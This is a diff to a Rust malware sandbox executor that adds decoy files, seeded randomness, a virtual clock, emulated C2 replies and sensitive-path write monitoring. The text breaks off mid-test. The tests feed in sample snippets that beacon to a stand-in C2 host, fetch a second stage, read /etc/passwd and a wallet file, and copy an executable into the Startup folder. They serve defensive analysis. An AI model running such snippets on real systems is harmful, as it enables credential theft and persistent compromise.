@@ -1,9 +1,13 @@
 use anyhow::{Result, anyhow};
 use std::time::Instant;
 use std::collections::{HashMap, HashSet};
+use std::sync::OnceLock;
+use regex::Regex;
 use crate::instance::SandboxInstance;
 use crate::monitor::ResourceUsage;
+use crate::policy::{FileSystemPolicy, SensitivePathRule};
 use crate::{SecurityEvent, SecurityEventType, SecuritySeverity, ExecutionResult};
+use serde::{Deserialize, Serialize};
 
 /// Virtual file system entry
 #[derive(Debug, Clone)]
@@ -38,6 +42,39 @@ struct ApiCall {
     args: Vec<String>,
 }
 
+/// A simulated file operation the sample performed
+#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
+pub struct FileOperation {
+    pub kind: FileOperationKind,
+    pub path: String,
+    pub bytes: usize,
+    /// The monitoring policy's rule the operation fell under, if any
+    pub sensitive_rule: Option<SensitivePathRule>,
+}
+
+#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize)]
+pub enum FileOperationKind {
+    Read,
+    Write,
+}
+
+/// Calls through which a sample draws random numbers
+const RANDOM_APIS: &[&str] = &[
+    "getrandom", "CryptGenRandom", "BCryptGenRandom", "RtlGenRandom", "Math.random", "random.", "rand(",
+];
+
+/// `open` modes that create or change a file
+const WRITE_MODES: &[&str] = &["w", "wb", "w+", "a", "ab", "a+", "r+"];
+
+/// Calls through which a sample reads the wall clock
+const CLOCK_APIS: &[&str] = &[
+    "GetSystemTime", "GetLocalTime", "clock_gettime", "gettimeofday", "Date.now", "time.time(", "datetime.now(",
+];
+
+/// Connections one execution makes at most, including ones to hosts named
+/// in emulated replies
+const MAX_NETWORK_REQUESTS: usize = 32;
+
 pub struct SandboxExecutor<'a> {
     instance: &'a SandboxInstance,
     output_buffer: Vec<u8>,
@@ -47,13 +84,19 @@ pub struct SandboxExecutor<'a> {
     peak_memory: usize,
     syscall_count: usize,
     file_operations: Vec<String>,
+    file_activity: Vec<FileOperation>,
     network_operations: Vec<String>,
+    // Emulated services that answered, with the size of their reply
+    emulated_replies: Vec<(String, usize)>,
     // Virtual filesystem
     virtual_fs: HashMap<String, VirtualFile>,
     // Execution tracking
     syscall_traces: Vec<SyscallTrace>,
     api_calls: Vec<ApiCall>,
     start_time: Instant,
+    // SplitMix64 state behind the sample's random numbers
+    rng_state: u64,
+    clock_reads: i64,
 }
 
 impl<'a> SandboxExecutor<'a> {
@@ -63,6 +106,19 @@ impl<'a> SandboxExecutor<'a> {
         // Initialize virtual filesystem with common paths
         Self::initialize_virtual_fs(&mut virtual_fs);
 
+        // Then the decoys the policy asks for
+        for seed in &instance.policy.vfs_seed {
+            virtual_fs.insert(seed.path.clone(), VirtualFile {
+                path: seed.path.clone(),
+                content: seed.content.clone(),
+                permissions: FilePermissions {
+                    read: true,
+                    write: seed.writable,
+                    execute: false,
+                },
+            });
+        }
+
         SandboxExecutor {
             instance,
             output_buffer: Vec::new(),
@@ -71,11 +127,16 @@ impl<'a> SandboxExecutor<'a> {
             peak_memory: 0,
             syscall_count: 0,
             file_operations: Vec::new(),
+            file_activity: Vec::new(),
             network_operations: Vec::new(),
+            emulated_replies: Vec::new(),
             virtual_fs,
             syscall_traces: Vec::new(),
             api_calls: Vec::new(),
             start_time: Instant::now(),
+            rng_state: instance.policy.random_seed
+                .unwrap_or_else(|| chrono::Utc::now().timestamp_nanos_opt().unwrap_or_default() as u64),
+            clock_reads: 0,
         }
     }
 
@@ -150,6 +211,7 @@ impl<'a> SandboxExecutor<'a> {
                 security_events,
                 execution_time_ms,
                 success: false,
+                file_operations: self.file_operations.clone(),
             });
         }
 
@@ -174,6 +236,7 @@ impl<'a> SandboxExecutor<'a> {
             security_events,
             execution_time_ms,
             success: result.2 == 0,
+            file_operations: self.file_operations.clone(),
         })
     }
 
@@ -185,11 +248,12 @@ impl<'a> SandboxExecutor<'a> {
 
         // Pattern-based behavioral analysis
         self.analyze_network_behavior(&code_str, events)?;
-        self.analyze_file_operations(&code_str, events)?;
+        self.analyze_file_operations(&code_str)?;
         self.analyze_process_operations(&code_str, events)?;
         self.analyze_registry_operations(&code_str, events)?;
         self.analyze_crypto_operations(&code_str, events)?;
         self.analyze_persistence_mechanisms(&code_str, events)?;
+        events.extend(self.sensitive_file_events());
 
         // Simulate execution with tracked operations
         let exit_code = self.simulate_tracked_execution(&code_str, &mut output, &mut errors, events)?;
@@ -215,12 +279,13 @@ impl<'a> SandboxExecutor<'a> {
             ("smtp", "SMTP communication"),
         ];
 
+        let hosts = referenced_hosts(code);
         for (pattern, description) in &network_patterns {
             if code.to_lowercase().contains(pattern) {
                 self.network_operations.push(pattern.to_string());
 
-                // Check network policy
-                if let Err(_) = self.instance.check_network_access("unknown") {
+                // Without a destination to route, the policy alone decides
+                if hosts.is_empty() && self.instance.check_network_access("unknown").is_err() {
                     events.push(SecurityEvent {
                         timestamp: chrono::Utc::now().timestamp_millis() as u64,
                         event_type: SecurityEventType::NetworkAccessAttempt,
@@ -231,10 +296,38 @@ impl<'a> SandboxExecutor<'a> {
             }
         }
 
+        // Destinations go through the network emulator, so fake services
+        // answer and only the rest meet the network policy. Hosts named in
+        // a reply are contacted next, as a sample fetching its next stage
+        // would.
+        let mut pending = hosts;
+        let mut contacted = HashSet::new();
+        let mut next = 0;
+        while next < pending.len() && contacted.len() < MAX_NETWORK_REQUESTS {
+            let (host, port) = pending[next].clone();
+            next += 1;
+            if !contacted.insert((host.to_ascii_lowercase(), port)) {
+                continue;
+            }
+            match self.connect(&host, port, &[]) {
+                Ok(Some(reply)) => {
+                    pending.extend(referenced_hosts(&String::from_utf8_lossy(&reply)));
+                    self.emulated_replies.push((format!("{}:{}", host, port), reply.len()));
+                }
+                Ok(None) => {}
+                Err(_) => events.push(SecurityEvent {
+                    timestamp: chrono::Utc::now().timestamp_millis() as u64,
+                    event_type: SecurityEventType::NetworkAccessAttempt,
+                    description: format!("Blocked: connection to {}:{}", host, port),
+                    severity: SecuritySeverity::Critical,
+                }),
+            }
+        }
+
         Ok(())
     }
 
-    fn analyze_file_operations(&mut self, code: &str, events: &mut Vec<SecurityEvent>) -> Result<()> {
+    fn analyze_file_operations(&mut self, code: &str) -> Result<()> {
         let file_patterns = [
             ("open", "File open"),
             ("read", "File read"),
@@ -243,28 +336,26 @@ impl<'a> SandboxExecutor<'a> {
             ("unlink", "File removal"),
             ("rename", "File rename"),
             ("chmod", "Permission change"),
-            ("/etc/passwd", "Sensitive file access"),
-            ("/etc/shadow", "Shadow file access"),
-            ("~/.ssh", "SSH key access"),
-            (".bashrc", "Shell config access"),
         ];
 
-        for (pattern, description) in &file_patterns {
+        for (pattern, _) in &file_patterns {
             if code.contains(pattern) {
                 self.file_operations.push(pattern.to_string());
                 self.track_syscall("open", vec![pattern.to_string()], 0);
-
-                if pattern.starts_with("/etc") || pattern.contains("passwd") || pattern.contains("shadow") {
-                    events.push(SecurityEvent {
-                        timestamp: chrono::Utc::now().timestamp_millis() as u64,
-                        event_type: SecurityEventType::FileAccessAttempt,
-                        description: format!("Attempted: {}", description),
-                        severity: SecuritySeverity::Critical,
-                    });
-                }
             }
         }
 
+        // Files the code names go through the virtual file system: reads
+        // find seeded decoys, writes are classified by the monitoring
+        // policy's sensitive paths. Failed operations are part of the
+        // trace, not an execution error.
+        for (kind, path) in referenced_paths(code) {
+            let _ = match kind {
+                FileOperationKind::Read => self.read_file(&path).map(drop),
+                FileOperationKind::Write => self.write_file(&path, &[]),
+            };
+        }
+
         Ok(())
     }
 
@@ -399,8 +490,25 @@ impl<'a> SandboxExecutor<'a> {
             return Ok(1);
         }
 
+        // Randomness the sample asks for comes from the policy's generator,
+        // so seeded runs print the same values every time
+        let mut drawn_values = Vec::new();
+        for api in RANDOM_APIS.iter().filter(|api| code.contains(*api)) {
+            drawn_values.push(format!("{}: {:016x}\n", api.trim_end_matches(['.', '(']), self.random_u64()));
+        }
+        // Likewise the clock, which starts at the policy's virtual time
+        for api in CLOCK_APIS.iter().filter(|api| code.contains(*api)) {
+            drawn_values.push(format!("{}: {}\n", api.trim_end_matches(['.', '(']), self.current_time_ms()));
+        }
+
         // Simulate successful execution with telemetry
         output.extend_from_slice(b"Sandbox execution started\n");
+        for value in &drawn_values {
+            output.extend_from_slice(value.as_bytes());
+        }
+        for (address, bytes) in &self.emulated_replies {
+            output.extend_from_slice(format!("Emulated reply from {}: {} bytes\n", address, bytes).as_bytes());
+        }
         output.extend_from_slice(format!("Code size: {} bytes\n", code.len()).as_bytes());
         output.extend_from_slice(format!("Syscalls tracked: {}\n", self.syscall_count).as_bytes());
         output.extend_from_slice(format!("File operations: {}\n", self.file_operations.len()).as_bytes());
@@ -451,6 +559,172 @@ impl<'a> SandboxExecutor<'a> {
         }
     }
     
+    /// Next random number for the sample, as getrandom would give it.
+    /// Deterministic when the policy sets `random_seed`.
+    pub fn random_u64(&mut self) -> u64 {
+        self.track_syscall("getrandom", vec!["8".to_string()], 8);
+        self.rng_state = self.rng_state.wrapping_add(0x9E37_79B9_7F4A_7C15);
+        let mut z = self.rng_state;
+        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
+        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
+        z ^ (z >> 31)
+    }
+
+    /// Fill `buf` with random bytes from the same generator as `random_u64`
+    pub fn random_bytes(&mut self, buf: &mut [u8]) {
+        for chunk in buf.chunks_mut(8) {
+            let bytes = self.random_u64().to_le_bytes();
+            chunk.copy_from_slice(&bytes[..chunk.len()]);
+        }
+    }
+
+    /// Current time for the sample in Unix milliseconds, as clock_gettime
+    /// would give it. Starts at the policy's `virtual_time` when set, where
+    /// seeded runs advance one millisecond per read so reruns see the same
+    /// times; otherwise it is the real clock.
+    pub fn current_time_ms(&mut self) -> i64 {
+        self.track_syscall("clock_gettime", vec!["CLOCK_REALTIME".to_string()], 0);
+        self.clock_reads += 1;
+
+        let policy = &self.instance.policy;
+        let Some(start) = policy.virtual_time else {
+            return chrono::Utc::now().timestamp_millis();
+        };
+        let elapsed = match policy.random_seed {
+            Some(_) => self.clock_reads,
+            None => self.start_time.elapsed().as_millis() as i64,
+        };
+        start.saturating_add(elapsed)
+    }
+
+    /// Send `request` to `host:port` and return the reply, as the sample's
+    /// connect/send/recv would. Only emulated hosts answer; anything else is
+    /// checked against the network policy and gets no reply.
+    pub fn network_request(&mut self, host: &str, port: u16, request: &[u8]) -> Result<Vec<u8>> {
+        self.connect(host, port, request)?
+            .ok_or_else(|| anyhow!("No route to {}:{}", host, port))
+    }
+
+    /// `network_request`, but a connection the policy allows and nothing
+    /// answers is `Ok(None)` rather than an error
+    fn connect(&mut self, host: &str, port: u16, request: &[u8]) -> Result<Option<Vec<u8>>> {
+        let address = format!("{}:{}", host, port);
+        self.network_operations.push(address.clone());
+
+        let emulated = self.instance.policy.network_emulation.response_for(host, port).map(<[u8]>::to_vec);
+        let Some(response) = emulated else {
+            self.track_syscall("connect", vec![address.clone()], -1);
+            self.instance.check_network_access(host)?;
+            return Ok(None);
+        };
+
+        self.track_syscall("connect", vec![address.clone()], 0);
+        self.track_syscall("send", vec![address.clone()], request.len() as i32);
+        self.track_syscall("recv", vec![address], response.len() as i32);
+        Ok(Some(response))
+    }
+
+    /// Read a file from the virtual file system, as the sample's open/read would
+    pub fn read_file(&mut self, path: &str) -> Result<Vec<u8>> {
+        if matches!(self.instance.policy.security_policy.file_system_policy, FileSystemPolicy::Disabled) {
+            self.track_syscall("open", vec![path.to_string()], -1);
+            return Err(anyhow!("File system access is disabled"));
+        }
+
+        self.file_operations.push(path.to_string());
+        let content = match self.virtual_fs.get(path) {
+            Some(file) if file.permissions.read => file.content.clone(),
+            Some(_) => {
+                self.track_syscall("open", vec![path.to_string()], -13); // EACCES
+                return Err(anyhow!("Permission denied: {}", path));
+            }
+            None => {
+                self.track_syscall("open", vec![path.to_string()], -2); // ENOENT
+                return Err(anyhow!("No such file: {}", path));
+            }
+        };
+
+        self.record_file_operation(FileOperationKind::Read, path, content.len());
+        self.track_syscall("open", vec![path.to_string()], 0);
+        self.track_syscall("read", vec![path.to_string()], content.len() as i32);
+        Ok(content)
+    }
+
+    /// Write a file in the virtual file system, as the sample's open/write
+    /// would. Writes are checked against the monitoring policy's sensitive
+    /// paths.
+    pub fn write_file(&mut self, path: &str, content: &[u8]) -> Result<()> {
+        match &self.instance.policy.security_policy.file_system_policy {
+            FileSystemPolicy::Disabled => {
+                self.track_syscall("open", vec![path.to_string()], -1);
+                return Err(anyhow!("File system access is disabled"));
+            }
+            FileSystemPolicy::ReadOnly(_) => {
+                self.track_syscall("open", vec![path.to_string()], -30); // EROFS
+                return Err(anyhow!("Read-only file system: {}", path));
+            }
+            _ => {}
+        }
+        if self.virtual_fs.get(path).is_some_and(|file| !file.permissions.write) {
+            self.track_syscall("open", vec![path.to_string()], -13); // EACCES
+            return Err(anyhow!("Permission denied: {}", path));
+        }
+
+        self.file_operations.push(path.to_string());
+        self.record_file_operation(FileOperationKind::Write, path, content.len());
+        self.virtual_fs.insert(path.to_string(), VirtualFile {
+            path: path.to_string(),
+            content: content.to_vec(),
+            permissions: FilePermissions {
+                read: true,
+                write: true,
+                execute: false,
+            },
+        });
+
+        self.track_syscall("open", vec![path.to_string()], 0);
+        self.track_syscall("write", vec![path.to_string()], content.len() as i32);
+        Ok(())
+    }
+
+    /// File reads and writes so far, in order
+    pub fn file_activity(&self) -> &[FileOperation] {
+        &self.file_activity
+    }
+
+    fn record_file_operation(&mut self, kind: FileOperationKind, path: &str, bytes: usize) {
+        let sensitive_rule = match kind {
+            FileOperationKind::Write => self.instance.policy.monitoring.classify_write(path).cloned(),
+            FileOperationKind::Read => self.instance.policy.monitoring.classify_read(path).cloned(),
+        };
+        self.file_activity.push(FileOperation {
+            kind,
+            path: path.to_string(),
+            bytes,
+            sensitive_rule,
+        });
+    }
+
+    /// One event per file operation that fell under a sensitive-path rule
+    fn sensitive_file_events(&self) -> Vec<SecurityEvent> {
+        self.file_activity
+            .iter()
+            .filter_map(|op| {
+                let rule = op.sensitive_rule.as_ref()?;
+                let action = match op.kind {
+                    FileOperationKind::Read => "Read of",
+                    FileOperationKind::Write => "Write to",
+                };
+                Some(SecurityEvent {
+                    timestamp: chrono::Utc::now().timestamp_millis() as u64,
+                    event_type: SecurityEventType::FileAccessAttempt,
+                    description: format!("{} {}: {}", action, rule.name, op.path),
+                    severity: rule.severity.clone(),
+                })
+            })
+            .collect()
+    }
+
     pub fn write_output(&mut self, data: &[u8]) -> Result<()> {
         // Check output size limit
         let new_size = self.output_buffer.len() + data.len();
@@ -474,10 +748,104 @@ impl<'a> SandboxExecutor<'a> {
     }
 }
 
+/// File paths named in the code's string literals, in order of first
+/// appearance, with whether the line writes them. Doubled backslashes are
+/// read as one, so `"C:\\Users"` and `r"C:\Users"` name the same file.
+///
+/// A line that writes or opens for writing writes every path on it; a line
+/// that copies or moves writes only its last path, the destination.
+fn referenced_paths(code: &str) -> Vec<(FileOperationKind, String)> {
+    let mut paths: Vec<(FileOperationKind, String)> = Vec::new();
+    for line in code.lines() {
+        let mut literals = Vec::new();
+        let mut rest = line;
+        while let Some(open) = rest.find(['\'', '"']) {
+            let quote = rest[open..].chars().next().unwrap_or('"');
+            let after = &rest[open + 1..];
+            let Some(close) = after.find(quote) else {
+                break;
+            };
+            literals.push(after[..close].replace("\\\\", "\\"));
+            rest = &after[close + 1..];
+        }
+
+        let lower = line.to_ascii_lowercase();
+        let writes_all = lower.contains("write")
+            || literals.iter().any(|l| WRITE_MODES.contains(&l.as_str()));
+        let writes_last = ["copy", "move", "rename"].iter().any(|call| lower.contains(call));
+
+        let line_paths: Vec<String> = literals.into_iter().filter(|l| looks_like_path(l)).collect();
+        let last = line_paths.len().saturating_sub(1);
+        for (i, path) in line_paths.into_iter().enumerate() {
+            let kind = if writes_all || (writes_last && i == last) {
+                FileOperationKind::Write
+            } else {
+                FileOperationKind::Read
+            };
+            if !paths.iter().any(|(k, p)| *k == kind && *p == path) {
+                paths.push((kind, path));
+            }
+        }
+    }
+    paths
+}
+
+/// Hosts the code reaches for, in order of first appearance: URL hosts
+/// anywhere in it, and quoted host names on lines that connect or resolve,
+/// with the port of a `(host, port)` pair. Ports default by scheme, else 80.
+fn referenced_hosts(code: &str) -> Vec<(String, u16)> {
+    static URL: OnceLock<Regex> = OnceLock::new();
+    static QUOTED_HOST: OnceLock<Regex> = OnceLock::new();
+    let url = URL.get_or_init(|| {
+        Regex::new(r"(?i)\b(https?|ftp)://([a-z0-9-]+(?:\.[a-z0-9-]+)*)(?::(\d{1,5}))?").unwrap()
+    });
+    let quoted_host = QUOTED_HOST.get_or_init(|| {
+        Regex::new(r#"(?i)['"]([a-z0-9-]+(?:\.[a-z0-9-]+)+)['"]\s*(?:,\s*(\d{1,5}))?"#).unwrap()
+    });
+
+    let mut hosts: Vec<(String, u16)> = Vec::new();
+    let mut add = |host: &str, port: u16| {
+        if !hosts.iter().any(|(h, p)| h.eq_ignore_ascii_case(host) && *p == port) {
+            hosts.push((host.to_string(), port));
+        }
+    };
+    for line in code.lines() {
+        for caps in url.captures_iter(line) {
+            let default_port = match caps[1].to_ascii_lowercase().as_str() {
+                "https" => 443,
+                "ftp" => 21,
+                _ => 80,
+            };
+            let port = caps.get(3).and_then(|p| p.as_str().parse().ok()).unwrap_or(default_port);
+            add(&caps[2], port);
+        }
+
+        let lower = line.to_ascii_lowercase();
+        if !["connect", "gethostbyname", "getaddrinfo", "resolve"].iter().any(|call| lower.contains(call)) {
+            continue;
+        }
+        for caps in quoted_host.captures_iter(line) {
+            let port = caps.get(2).and_then(|p| p.as_str().parse().ok()).unwrap_or(80);
+            add(&caps[1], port);
+        }
+    }
+    hosts
+}
+
+fn looks_like_path(literal: &str) -> bool {
+    let bytes = literal.as_bytes();
+    let unix = literal.len() > 1 && (literal.starts_with('/') || literal.starts_with("~/"));
+    let windows = bytes.len() > 3
+        && bytes[0].is_ascii_alphabetic()
+        && bytes[1] == b':'
+        && matches!(bytes[2], b'\\' | b'/');
+    (unix || windows) && !literal.starts_with("//")
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
-    use crate::policy::ExecutionPolicy;
+    use crate::policy::{ExecutionPolicy, FakeResponse, NetworkEmulation, SeedFile};
     
     #[tokio::test]
     async fn test_basic_execution() {
@@ -497,6 +865,305 @@ mod tests {
         assert_eq!(result.exit_code, 0);
     }
 
+    #[test]
+    fn test_seeded_decoy_file_readable() {
+        let decoy = r"C:\Users\analyst\Documents\Q3 invoices.xlsx";
+        let policy = ExecutionPolicy {
+            vfs_seed: vec![SeedFile {
+                path: decoy.to_string(),
+                content: b"PK\x03\x04decoy workbook".to_vec(),
+                writable: false,
+            }],
+            ..ExecutionPolicy::default()
+        };
+        let instance = SandboxInstance::new("test-seed".to_string(), policy).unwrap();
+        let mut executor = SandboxExecutor::new(&instance);
+
+        assert_eq!(executor.read_file(decoy).unwrap(), b"PK\x03\x04decoy workbook");
+        // The built-in files are still there, and unseeded paths still aren't
+        assert_eq!(executor.read_file("/etc/hosts").unwrap(), b"127.0.0.1 localhost\n");
+        assert!(executor.read_file(r"C:\Users\analyst\Documents\other.docx").is_err());
+        assert_eq!(executor.file_operations.len(), 3);
+
+        let unseeded = SandboxInstance::new("test-unseeded".to_string(), ExecutionPolicy::default()).unwrap();
+        assert!(SandboxExecutor::new(&unseeded).read_file(decoy).is_err());
+    }
+
+    #[tokio::test]
+    async fn test_execute_reads_seeded_decoy() {
+        let decoy = r"C:\Users\analyst\Documents\invoice.xlsx";
+        let policy = ExecutionPolicy {
+            vfs_seed: vec![SeedFile {
+                path: decoy.to_string(),
+                content: b"PK\x03\x04decoy workbook".to_vec(),
+                writable: false,
+            }],
+            ..ExecutionPolicy::default()
+        };
+        let mut instance = SandboxInstance::new("test-seed-exec".to_string(), policy).unwrap();
+        instance.initialize().unwrap();
+        instance.start().unwrap();
+
+        let mut executor = SandboxExecutor::new(&instance);
+        let code = b"if os.path.exists('C:\\\\Users\\\\analyst\\\\Documents\\\\invoice.xlsx'):\n    data = open(\"/home/analyst/.wallet\").read()";
+        executor.execute(code).await.unwrap();
+
+        // The decoy is found, the unseeded wallet isn't
+        let activity = executor.file_activity();
+        assert_eq!(activity.len(), 1);
+        assert_eq!(activity[0].kind, FileOperationKind::Read);
+        assert_eq!(activity[0].path, decoy);
+        assert_eq!(activity[0].bytes, 18);
+        assert!(executor.syscall_traces.iter().any(|t| t.name == "open" && t.args == ["/home/analyst/.wallet"] && t.result == -2));
+    }
+
+    #[test]
+    fn test_referenced_paths() {
+        let code = "open('/etc/hosts'); f = \"C:\\\\Temp\\\\a.exe\"; s = 'http://x/y'; t = '/'; u = \"don't\"\n\
+                    open('/tmp/out.bin', 'wb')\n\
+                    shutil.copy('/tmp/out.bin', '/etc/cron.d/job')";
+        use FileOperationKind::{Read, Write};
+        assert_eq!(referenced_paths(code), vec![
+            (Read, "/etc/hosts".to_string()),
+            (Read, r"C:\Temp\a.exe".to_string()),
+            (Write, "/tmp/out.bin".to_string()),
+            (Read, "/tmp/out.bin".to_string()),
+            (Write, "/etc/cron.d/job".to_string()),
+        ]);
+    }
+
+    #[test]
+    fn test_seeded_randomness_repeats_across_runs() {
+        let seeded = |seed| ExecutionPolicy { random_seed: Some(seed), ..ExecutionPolicy::default() };
+        let run = |policy: ExecutionPolicy| {
+            let instance = SandboxInstance::new("test-rng".to_string(), policy).unwrap();
+            let mut executor = SandboxExecutor::new(&instance);
+            let values: Vec<u64> = (0..4).map(|_| executor.random_u64()).collect();
+            let mut mutex_suffix = [0u8; 12];
+            executor.random_bytes(&mut mutex_suffix);
+            (values, mutex_suffix)
+        };
+
+        let first = run(seeded(0x5EED));
+        assert_eq!(run(seeded(0x5EED)), first);
+        assert_ne!(run(seeded(0x5EEE)), first);
+        // Consecutive draws differ from each other too
+        assert_ne!(first.0[0], first.0[1]);
+    }
+
+    #[tokio::test]
+    async fn test_execute_draws_from_seeded_generator() {
+        let run = |seed| async move {
+            let policy = ExecutionPolicy { random_seed: Some(seed), ..ExecutionPolicy::default() };
+            let mut instance = SandboxInstance::new("test-rng-exec".to_string(), policy).unwrap();
+            instance.initialize().unwrap();
+            instance.start().unwrap();
+            let mut executor = SandboxExecutor::new(&instance);
+            let result = executor.execute(b"mutex = 'Global\\' + str(random.getrandbits(64))").await.unwrap();
+            result.stdout
+        };
+
+        let first = run(0x5EED).await;
+        assert!(first.contains("random: "));
+        assert_eq!(run(0x5EED).await, first);
+        assert_ne!(run(0x5EEE).await, first);
+    }
+
+    #[test]
+    fn test_virtual_time_triggers_time_bomb() {
+        // 2100-01-01T00:00:00Z
+        const TRIGGER_MS: i64 = 4_102_444_800_000;
+        let detonates = |policy: ExecutionPolicy| {
+            let instance = SandboxInstance::new("test-clock".to_string(), policy).unwrap();
+            let mut executor = SandboxExecutor::new(&instance);
+            executor.current_time_ms() >= TRIGGER_MS
+        };
+
+        assert!(!detonates(ExecutionPolicy::default()));
+        assert!(detonates(ExecutionPolicy {
+            virtual_time: Some(TRIGGER_MS + 86_400_000),
+            ..ExecutionPolicy::default()
+        }));
+
+        // Seeded runs read the same clock every time
+        let policy = ExecutionPolicy {
+            random_seed: Some(7),
+            virtual_time: Some(TRIGGER_MS),
+            ..ExecutionPolicy::default()
+        };
+        let instance = SandboxInstance::new("test-clock".to_string(), policy).unwrap();
+        let mut executor = SandboxExecutor::new(&instance);
+        assert_eq!(executor.current_time_ms(), TRIGGER_MS + 1);
+        assert_eq!(executor.current_time_ms(), TRIGGER_MS + 2);
+    }
+
+    #[tokio::test]
+    async fn test_execute_reads_virtual_clock() {
+        // 2100-01-01T00:00:00Z
+        const TRIGGER_MS: i64 = 4_102_444_800_000;
+        let policy = ExecutionPolicy {
+            random_seed: Some(7),
+            virtual_time: Some(TRIGGER_MS),
+            ..ExecutionPolicy::default()
+        };
+        let mut instance = SandboxInstance::new("test-clock-exec".to_string(), policy).unwrap();
+        instance.initialize().unwrap();
+        instance.start().unwrap();
+
+        let mut executor = SandboxExecutor::new(&instance);
+        let result = executor.execute(b"if time.time() > 4102444800: detonate()").await.unwrap();
+        assert!(result.stdout.contains(&format!("time.time: {}\n", TRIGGER_MS + 1)));
+    }
+
+    #[test]
+    fn test_emulated_c2_reply_lets_sample_continue() {
+        let policy = ExecutionPolicy {
+            network_emulation: NetworkEmulation {
+                responses: vec![FakeResponse {
+                    host: "c2.evil.example".to_string(),
+                    port: Some(443),
+                    response: b"TASK download http://cdn.evil.example/stage2.bin".to_vec(),
+                }],
+                default_response: None,
+            },
+            ..ExecutionPolicy::default()
+        };
+        let instance = SandboxInstance::new("test-fakenet".to_string(), policy).unwrap();
+        let mut executor = SandboxExecutor::new(&instance);
+
+        // A beacon that only moves on once the C2 hands it a task
+        let reply = executor.network_request("C2.evil.example", 443, b"BEACON id=42").unwrap();
+        assert!(reply.starts_with(b"TASK "));
+        let next_stage = String::from_utf8_lossy(&reply[5..]).into_owned();
+        executor.write_output(next_stage.as_bytes()).unwrap();
+
+        assert_eq!(executor.output_buffer, b"download http://cdn.evil.example/stage2.bin");
+        assert!(executor.syscall_traces.iter().any(|t| t.name == "recv" && t.result == reply.len() as i32));
+
+        // Hosts nobody emulates still fall under the (disabled) network policy
+        assert!(executor.network_request("cdn.evil.example", 80, b"GET /stage2.bin").is_err());
+        assert_eq!(executor.network_operations, vec!["C2.evil.example:443", "cdn.evil.example:80"]);
+    }
+
+    #[tokio::test]
+    async fn test_execute_talks_to_emulated_c2() {
+        let policy = ExecutionPolicy {
+            network_emulation: NetworkEmulation {
+                responses: vec![
+                    FakeResponse {
+                        host: "c2.evil.example".to_string(),
+                        port: Some(8443),
+                        response: b"TASK download http://cdn.evil.example/stage2.bin".to_vec(),
+                    },
+                    FakeResponse {
+                        host: "cdn.evil.example".to_string(),
+                        port: None,
+                        response: b"MZ\x90\x00".to_vec(),
+                    },
+                ],
+                default_response: None,
+            },
+            ..ExecutionPolicy::default()
+        };
+        let mut instance = SandboxInstance::new("test-fakenet-exec".to_string(), policy).unwrap();
+        instance.initialize().unwrap();
+        instance.start().unwrap();
+
+        let mut executor = SandboxExecutor::new(&instance);
+        let result = executor.execute(b"s = socket.socket(); s.connect(('c2.evil.example', 8443)); task = s.recv(4096)").await.unwrap();
+
+        // Both hosts are emulated, so nothing is blocked and the sample
+        // goes on to fetch the stage its C2 names
+        assert!(result.success, "{}", result.stderr);
+        assert!(result.stdout.contains("Emulated reply from c2.evil.example:8443: 48 bytes"));
+        assert!(result.stdout.contains("Emulated reply from cdn.evil.example:80: 4 bytes"));
+
+        // Without emulation the same connection is blocked by name
+        let mut instance = SandboxInstance::new("test-fakenet-off".to_string(), ExecutionPolicy::default()).unwrap();
+        instance.initialize().unwrap();
+        instance.start().unwrap();
+        let result = SandboxExecutor::new(&instance)
+            .execute(b"s = socket.socket(); s.connect(('c2.evil.example', 8443))").await.unwrap();
+        assert!(!result.success);
+        assert!(result.stderr.contains("Blocked: connection to c2.evil.example:8443"));
+    }
+
+    #[test]
+    fn test_referenced_hosts() {
+        let code = "r = requests.get('https://Evil.example/a')\nsock.connect((\"10.0.0.5\", 4444))\nf = open('notes.txt')\nurllib.urlopen('http://evil.example:8080/')";
+        assert_eq!(referenced_hosts(code), vec![
+            ("Evil.example".to_string(), 443),
+            ("10.0.0.5".to_string(), 4444),
+            ("evil.example".to_string(), 8080),
+        ]);
+    }
+
+    #[test]
+    fn test_startup_folder_write_flagged_temp_text_not() {
+        let startup = r"C:\Users\victim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.lnk";
+        let notes = r"C:\Users\victim\AppData\Local\Temp\notes.txt";
+        let dropper = r"C:\Users\victim\AppData\Local\Temp\stage2.exe";
+        let instance = SandboxInstance::new("test-file-monitor".to_string(), ExecutionPolicy::default()).unwrap();
+        let mut executor = SandboxExecutor::new(&instance);
+
+        executor.write_file(startup, b"L\0\0\0shortcut").unwrap();
+        executor.write_file(notes, b"shopping list").unwrap();
+        executor.write_file(dropper, b"MZ").unwrap();
+        assert_eq!(executor.read_file(notes).unwrap(), b"shopping list");
+
+        let activity = executor.file_activity();
+        assert_eq!(activity.len(), 4);
+        assert_eq!(activity[0].sensitive_rule.as_ref().unwrap().name, "Startup folder");
+        assert_eq!(activity[0].sensitive_rule.as_ref().unwrap().severity, SecuritySeverity::High);
+        assert!(activity[1].sensitive_rule.is_none());
+        assert_eq!(activity[2].sensitive_rule.as_ref().unwrap().name, "Executable in temp directory");
+        assert_eq!(activity[3].kind, FileOperationKind::Read);
+
+        let events = executor.sensitive_file_events();
+        assert_eq!(events.len(), 2);
+        assert!(events[0].description.contains("Startup"));
+
+        // A trusted path is never reported
+        let mut policy = ExecutionPolicy::default();
+        policy.monitoring.trusted_paths.push(r"C:\Users\victim\AppData\Local\Temp\".to_string());
+        let instance = SandboxInstance::new("test-file-monitor-trusted".to_string(), policy).unwrap();
+        let mut executor = SandboxExecutor::new(&instance);
+        executor.write_file(dropper, b"MZ").unwrap();
+        assert!(executor.file_activity()[0].sensitive_rule.is_none());
+    }
+
+    #[tokio::test]
+    async fn test_execute_classifies_writes_by_sensitive_paths() {
+        let startup = r"C:\Users\victim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.exe";
+        let code = br"shutil.copy(r'C:\Users\victim\Downloads\invoice.exe', r'C:\Users\victim\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\updater.exe')
+open(r'C:\Users\victim\AppData\Local\Temp\notes.txt', 'w').write('hi')
+print(open('/etc/passwd').read())";
+
+        let mut policy = ExecutionPolicy::default();
+        policy.monitoring.trusted_paths.push(r"C:\Users\victim\AppData\Local\".to_string());
